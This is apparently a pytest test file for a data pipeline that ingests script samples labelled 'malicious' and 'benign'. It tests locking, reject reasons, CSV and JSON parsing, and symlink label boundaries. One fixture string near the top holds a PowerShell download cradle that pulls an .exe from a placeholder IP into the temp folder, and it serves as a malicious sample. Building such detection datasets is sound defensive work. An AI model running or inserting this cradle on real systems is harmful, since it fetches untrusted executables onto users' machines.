"""Nothing is lost or relabelled silently (issue 10, items 4, 5, 7-10): every input row ends as a record or a reject,
two processes never share a run directory, a stage is never published without its outputs, links never move samples
between labels, duplicate keys are errors, and the reasons for rejects are always on disk."""
from __future__ import annotations

import json
import os
import shutil

import pytest

from pipeline.config import ConfigError, load_config
from pipeline.run.lock import locked_run_dir
from pipeline.inputs.readers import LostRowsError, ReaderLimits, Record, Reject, iter_inputs
from pipeline.run.records import read_records
from pipeline.run.runner import StageError, run_pipeline, run_stage, statuses

from .conftest import TINY_CONFIG

PS = "$c = New-Object Net.WebClient\n$c.DownloadFile('http://198.51.100.7/a.exe', \"$env:TEMP\\a.exe\")\n"
SH = "#!/bin/sh\ntar czf backup.tgz /home/user/documents && echo done\n"


def _read(*paths, **limits):
    return list(iter_inputs([str(p) for p in paths], ReaderLimits(**limits)))


def _records(items):
    return [i for i in items if isinstance(i, Record)]


def _rejects(items):
    return [i for i in items if isinstance(i, Reject)]


def _cfg(inputs, *sets):
    return load_config(TINY_CONFIG, overrides=[f"data.ingest.inputs=[{','.join(map(str, inputs))}]",
                                               "data.dedup.workers=1", *sets])


def _corpus(root):
    for label, text in (("malicious", PS), ("benign", SH)):
        (root / label).mkdir(parents=True)
        for i in range(3):
            (root / label / f"s{i}.txt").write_text(f"{text}# {i}\n")
    return root


# ------------------------------------------------------------------------------- 4: the run directory is no input
def test_a_run_directory_inside_the_input_is_never_read(tmp_path):
    corpus = _corpus(tmp_path / "corpus")
    run_dir = corpus / "runs" / "r"
    cfg = _cfg([corpus])
    run_pipeline(cfg, run_dir, until="ingest", log=lambda m: None)
    run_pipeline(cfg, run_dir, until="ingest", force={"ingest"}, log=lambda m: None)  # its records.jsonl exists now
    assert len(list(read_records(run_dir / "ingest" / "records.jsonl"))) == 6
    rejects = [json.loads(line) for line in (run_dir / "ingest" / "rejected.jsonl").read_text().splitlines()]
    assert [(r["location"], r["reason"]) for r in rejects] == [(str(run_dir), "sgpipe_output")]
    # the run directory's own files do not change the input's identity: ingest stays up to date
    assert {s.stage.name: s.state for s in statuses(cfg, run_dir)}["ingest"] == "done"


# -------------------------------------------------------------------------- 5: one process per run directory
def test_a_second_process_on_the_run_directory_stops_with_the_holder_pid(tmp_path):
    cfg = _cfg([_corpus(tmp_path / "corpus")])
    with locked_run_dir(tmp_path / "run"):
        with pytest.raises(StageError, match=rf"in use by pid {os.getpid()}"):
            run_pipeline(cfg, tmp_path / "run", until="ingest", log=lambda m: None)
    run_pipeline(cfg, tmp_path / "run", until="ingest", log=lambda m: None)  # released: the next command runs


def test_a_stage_whose_outputs_vanished_is_never_published(tmp_path, monkeypatch):
    cfg = _cfg([_corpus(tmp_path / "corpus")])
    import pipeline.stages.ingest as ingest_stage

    real = ingest_stage.run

    def victim(ctx):  # what another process's cleanup did: remove the temporary folder under a running stage
        counts = real(ctx)
        shutil.rmtree(ctx.out)
        ctx.out.mkdir()
        return counts

    monkeypatch.setattr(ingest_stage, "run", victim)
    with pytest.raises(StageError, match="vanished or is empty"):
        run_stage(cfg, tmp_path / "run", "ingest", log=lambda m: None)
    assert not (tmp_path / "run" / "ingest").exists()


def test_a_published_stage_missing_a_listed_output_is_not_trusted(tmp_path):
    cfg = _cfg([_corpus(tmp_path / "corpus")])
    run_pipeline(cfg, tmp_path / "run", until="dedup", log=lambda m: None)
    (tmp_path / "run" / "ingest" / "records.jsonl").unlink()
    states = {s.stage.name: s.state for s in statuses(cfg, tmp_path / "run")}
    assert states["ingest"] == "stale" and states["dedup"] != "done"
    assert run_pipeline(cfg, tmp_path / "run", until="dedup", log=lambda m: None) == ["ingest"]  # dedup: cut-off


def test_a_run_dir_that_is_a_file_is_a_clear_error(tmp_path):
    (tmp_path / "file").write_text("x")
    with pytest.raises(StageError, match="is a file, not a folder"):
        run_pipeline(_cfg([tmp_path]), tmp_path / "file", until="ingest", log=lambda m: None)


# ------------------------------------------------------------------------ 7: every row: a record or a reject
def test_a_stray_quote_in_an_unquoted_csv_field_swallows_nothing(tmp_path):
    table = tmp_path / "t.csv"
    table.write_text('text,label\nsay "hi there,benign\nx1 = 1,benign\nx2 = 2,benign\nx3 = 3,malicious\n'
                     'x4 = 4,benign\n')
    items = _read(table)
    assert [r.text for r in _records(items)] == ['say "hi there', "x1 = 1", "x2 = 2", "x3 = 3", "x4 = 4"]
    assert not _rejects(items)


def test_a_quote_that_never_parses_costs_its_own_lines_only(tmp_path):
    table = tmp_path / "t.csv"
    table.write_text('text,label\n"unterminated,benign\nx1 = 1,benign\n"a"b,benign\nx2 = 2,malicious\n')
    items = _read(table)
    assert [r.text for r in _records(items)] == ["x1 = 1", "x2 = 2"]
    assert [(r.location.split(":", 1)[1], r.reason) for r in _rejects(items)] == [
        ("row 2, line 2 (a quote opened in row 2 did not parse)", "malformed_csv"),
        ("row 4, line 4 (a quote opened in row 2 did not parse)", "malformed_csv")]


def test_a_row_without_an_outcome_fails_the_stage(tmp_path, monkeypatch):
    from pipeline.inputs import readers

    table = tmp_path / "t.csv"
    table.write_text("text,label\nx1 = 1,benign\n")
    monkeypatch.setattr(readers._Reader, "_csv_fields", lambda self, fields, header, where: iter(()))  # a reader bug
    with pytest.raises(LostRowsError, match="2 lines read but 1"):
        _read(table)
    with pytest.raises(StageError, match="rather than lose rows"):
        run_pipeline(_cfg([table]), tmp_path / "run", until="ingest", log=lambda m: None)


# ---------------------------------------------------------------------------- 8: links never move samples
def test_a_link_from_one_label_to_another_is_refused(tmp_path):
    corpus = _corpus(tmp_path / "corpus")
    (corpus / "benign" / "zz").symlink_to("../malicious")
    items = _read(corpus, follow_symlinks=True)
    labels = {r.source.split("/")[-2] + "/" + r.source.split("/")[-1]: r.label for r in _records(items)}
    assert labels == {**{f"malicious/s{i}.txt": "malicious" for i in range(3)},
                      **{f"benign/s{i}.txt": "benign" for i in range(3)}}
    assert [(r.location, r.reason) for r in _rejects(items)] == [(str(corpus / "benign" / "zz"),
                                                                  "symlink_cross_label")]


def test_a_link_within_one_label_is_still_followed(tmp_path):
    corpus = _corpus(tmp_path / "corpus")
    (corpus / "malicious" / "more").mkdir()
    (corpus / "malicious" / "more" / "m.txt").write_text(PS + "# more\n")
    (corpus / "malicious" / "link.txt").symlink_to("more/m.txt")
    items = _read(corpus, follow_symlinks=True)
    assert [r.label for r in _records(items) if r.source.endswith("link.txt")] == ["malicious"]


# ------------------------------------------------------------------------------------ 9: no silent last-wins
def test_a_yaml_section_written_twice_is_an_error_naming_it(tmp_path):
    config = tmp_path / "c.yaml"
    config.write_text("training:\n  max_steps: 3\nrun:\n  seed: 1\ntraining:\n  learning_rate: 0.1\n")
    with pytest.raises(ConfigError, match=r"c.yaml:5: key 'training' is written twice .*first at line 1"):
        load_config(config)


def test_duplicate_json_keys_and_csv_columns_are_rejects_naming_them(tmp_path):
    table = tmp_path / "t.jsonl"
    table.write_text('{"text": "echo a", "label": "benign", "label": "malicious"}\n'
                     '{"text": "echo b", "label": "benign"}\n')
    csv_table = tmp_path / "t.csv"
    csv_table.write_text("text,label,text\necho c,benign,echo d\n")
    items = _read(table, csv_table)
    assert [r.text for r in _records(items)] == ["echo b"]
    details = [(r.reason, r.detail) for r in _rejects(items)]
    assert details[0][0] == "malformed_json" and "'label' twice" in details[0][1]
    assert details[1][0] == "malformed_csv" and "['text']" in details[1][1]


# ---------------------------------------------------------------------- 10: the reasons survive a failed ingest
def test_when_every_input_is_rejected_the_reasons_are_on_disk(tmp_path):
    table = tmp_path / "t.jsonl"
    table.write_text('{"text": "echo a"}\n{"text": "", "label": "benign"}\n')
    with pytest.raises(StageError, match="each reject and its fix is in") as failed:
        run_pipeline(_cfg([table]), tmp_path / "run", until="ingest", log=lambda m: None)
    kept = tmp_path / "run" / ".work" / "ingest" / "rejected.jsonl"
    assert str(kept) in str(failed.value)
    assert [json.loads(line)["reason"] for line in kept.read_text().splitlines()] == ["missing_label", "empty"]
